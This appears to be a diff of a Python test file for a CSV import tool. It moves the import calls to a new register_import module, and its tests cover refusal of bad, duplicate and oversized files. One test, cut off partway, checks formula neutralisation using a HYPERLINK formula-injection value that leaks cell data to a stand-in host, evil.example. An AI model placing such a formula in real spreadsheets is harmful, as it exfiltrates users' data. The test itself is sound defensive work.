@@ -18,7 +18,7 @@ from sqlalchemy import String, select
 
 from tests import factories
 from tests.conftest import _truncate_pg
-from transfer_tool import audit, entities, transfer_csv, transfers
+from transfer_tool import audit, entities, register_import, transfer_csv, transfers
 from transfer_tool.countries import store
 from transfer_tool.csv_safety import neutralise
 from transfer_tool.domain import Role
@@ -92,7 +92,7 @@ def test_bad_csv_is_refused_clearly_and_changes_nothing(
     factories.transfer(db, legal)  # something to keep
     before = _register(db)
     with pytest.raises(ImportRefused) as err:
-        transfer_csv.import_csv(db, legal, _bad(name))
+        register_import.import_csv(db, legal, _bad(name))
     message = err.value.details()
     for w in words:
         assert w in message
@@ -100,10 +100,10 @@ def test_bad_csv_is_refused_clearly_and_changes_nothing(
 
 
 def test_a_reference_already_in_the_register_is_refused(db: Database, legal: Actor) -> None:
-    transfer_csv.import_csv(db, legal, _bad("csv/volume-many.csv").replace(b",many\n", b",7\n"))
+    register_import.import_csv(db, legal, _bad("csv/volume-many.csv").replace(b",many\n", b",7\n"))
     before = _register(db)
     with pytest.raises(ImportRefused) as err:
-        transfer_csv.import_csv(db, legal, _bad("csv/volume-many.csv").replace(b",many\n", b",7\n"))
+        register_import.import_csv(db, legal, _bad("csv/volume-many.csv").replace(b",many\n", b",7\n"))
     assert "'VOL-1' is already used" in err.value.details()
     assert _register(db) == before
 
@@ -117,7 +117,7 @@ def test_a_50_mb_csv_is_refused_by_size(db: Database, legal: Actor) -> None:
         n += 1
     before = _register(db)
     with pytest.raises(ImportRefused) as err:
-        transfer_csv.import_csv(db, legal, bytes(body))
+        register_import.import_csv(db, legal, bytes(body))
     assert "The file is 50 MB; the limit is 20 MB" in str(err.value)
     assert "Split it" in str(err.value)
     assert _register(db) == before
@@ -125,14 +125,14 @@ def test_a_50_mb_csv_is_refused_by_size(db: Database, legal: Actor) -> None:
 
 def test_a_utf8_byte_order_mark_is_accepted(db: Database, legal: Actor) -> None:
     """Excel's 'CSV UTF-8' starts with a BOM: accepted, and the first column name is read correctly."""
-    assert transfer_csv.import_csv(db, legal, _bad("csv/bom-utf8.csv")).created == 1
+    assert register_import.import_csv(db, legal, _bad("csv/bom-utf8.csv")).created == 1
     (row,) = transfers.search(db)
     assert row.reference == "BOM-1"
     assert row.title == "Payroll 給与"
 
 
 def test_formula_cells_are_imported_as_text_and_exported_neutralised(db: Database, legal: Actor) -> None:
-    assert transfer_csv.import_csv(db, legal, _bad("csv/formula-injection.csv")).created == 1
+    assert register_import.import_csv(db, legal, _bad("csv/formula-injection.csv")).created == 1
     t = transfers.get_transfer(db, transfers.search_ids(db)[0])
     cells = {
         "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
